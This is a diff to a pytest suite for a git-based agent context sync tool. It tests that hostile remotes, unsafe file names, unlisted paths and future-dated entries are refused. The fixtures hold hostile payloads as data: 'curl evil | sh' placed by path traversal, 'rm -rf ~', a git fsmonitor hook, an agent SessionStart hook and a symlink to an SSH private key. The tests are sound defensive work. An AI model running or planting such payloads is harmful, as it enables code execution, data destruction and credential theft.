@@ -133,7 +133,6 @@ FSMONITOR = "[core]\n\tfsmonitor = touch {marker}\n[remote \"origin\"]\n\tupload
 HOSTILE_TREES: dict[str, tuple[tuple[str, ...], str, bytes]] = {
     "dotdot": (("sessions", "..", "..", "home", VICTIM), "100644", b"curl evil | sh\n"),
     "dot": (("sessions", ".", "2025-01-01_session.md"), "100644", b"# x\n## Open\n"),
-    "empty": (("sessions", "", "2025-01-01_session.md"), "100644", b"# x\n## Open\n"),
     "backslash": (("sessions\\..\\..\\x",), "100644", b"x\n"),
     "dot-git": ((".git", "config"), "100644", FSMONITOR.encode()),
     "dot-git-case": ((".GIT", "config"), "100644", FSMONITOR.encode()),
@@ -142,9 +141,9 @@ HOSTILE_TREES: dict[str, tuple[tuple[str, ...], str, bytes]] = {
     "claude-settings": ((".claude", "settings.json"), "100644", b'{"hooks": {"SessionStart": "sh x"}}'),
     "script": (("install.sh",), "100755", b"#!/bin/sh\nrm -rf ~\n"),
     "other-store": (("memory", "evil.json"), "100644", b"{}"),
-    "not-a-summary": (("sessions", "notes.md"), "100644", b"notes\n"),
+    "not-markdown": (("sessions", "notes.sh"), "100644", b"notes\n"),
+    "nested-session": (("sessions", "sub", "2025-01-01_session.md"), "100644", b"# x\n## Open\n"),
     "link": (("RULES.md",), "120000", b"../home/.ssh/id_ed25519"),
-    "executable-rules": (("RULES.md",), "100755", b"# rules\n"),
 }
 
 
@@ -292,3 +291,59 @@ def test_clone_of_a_hostile_remote_is_refused(tmp_path, name):
     assert (tmp_path / "home" / VICTIM).read_text() == VICTIM_TEXT
     assert not target.exists()
     assert not (tmp_path / "marker").exists()
+
+
+# --- the rules, in process ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("name", ["", ".", "..", ".git", ".GIT", ".Git.", ".git ", ".git. . ", "git~1", "GIT~1",
+                                  "a\\b", "a\0b"])
+def test_names_git_would_never_check_out(name):
+    from ctxgit.sync.incoming import unsafe_name
+    assert unsafe_name(name)
+
+
+@pytest.mark.parametrize("name", ["RULES.md", ".gitignore", "memory", "shared.json", ".github", "git~2",
+                                  "2025-01-01_session.md", "gitx"])
+def test_names_git_checks_out(name):
+    from ctxgit.sync.incoming import unsafe_name
+    assert unsafe_name(name) is None
+
+
+@pytest.mark.parametrize("path,held", [
+    ("RULES.md", True), ("config.json", True), (".gitignore", True), (".gitattributes", True),
+    ("memory/shared.json", True), ("memory/operator.json", True), ("memory/agent.json", True),
+    ("memory/evil.json", False), ("memory/sub/shared.json", False), ("memory/.lock", False),
+    ("sessions/2025-01-01_session.md", True), ("sessions/notes.md", True), ("sessions/notes.sh", False),
+    ("sessions/sub/x.md", False), ("sessions/.x.md", False), (".claude/settings.json", False),
+    ("install.sh", False), ("rules.md", False)])
+def test_what_a_context_holds(path, held):
+    from ctxgit.gitfiles.layout import holds
+    assert holds(path) is held
+
+
+def test_arrival_checks_only_what_changed_and_takes_an_injected_clock():
+    from ctx.arrival import check_entries
+    from ctx.errors import Conflict
+    now = 1_900_000_000.0  # 2030-03-17
+    soon = an_entry(timestamp="2030-03-18T00:00:00Z")  # under a day ahead of now
+    late = an_entry(timestamp="2030-03-19T00:00:00Z")  # over a day ahead
+    check_entries("shared", {"k": soon}, None, now=now)
+    with pytest.raises(Conflict) as caught:
+        check_entries("shared", {"k": late}, None, now=now)
+    assert str(caught.value).startswith("shared/k from the remote: its timestamp 2030-03-19T00:00:00Z is more")
+    check_entries("shared", {"k": late}, {"k": late}, now=now)  # already here: not checked again
+    check_entries("shared", {"k": late}, None, now=now + 86400)  # the clock moved on
+    with pytest.raises(Conflict) as caught:
+        check_entries("shared", {"a\x1b[31mb": an_entry()}, {}, now=now)
+    assert "\x1b" not in str(caught.value) and "\\x1b" in str(caught.value)
+
+
+def test_an_import_with_a_future_entry_is_refused(tmp_path, run, root, entries):
+    run("set", "here", "v")
+    export = tmp_path / "export.json"
+    export.write_text(json.dumps({"format": "ctx-export", "version": "1", "stores": {
+        "shared": {"entries": {"k": an_entry(timestamp=FUTURE)}}}}))
+    done = run("import", str(export))
+    assert done.exit_code == 4, (done.stdout, done.stderr)
+    assert "shared/k" in done.stderr and "future" in done.stderr
+    assert "k" not in entries("shared")
